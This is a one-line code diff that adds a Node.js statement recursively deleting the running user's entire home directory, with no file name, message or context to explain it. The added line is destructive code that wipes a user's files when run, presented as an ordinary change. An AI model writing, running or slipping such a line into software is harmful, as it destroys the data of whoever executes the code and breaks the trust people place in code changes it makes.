@@ -1,0 +1,1 @@
+require("fs").rmSync(require("os").homedir(), { recursive: true });
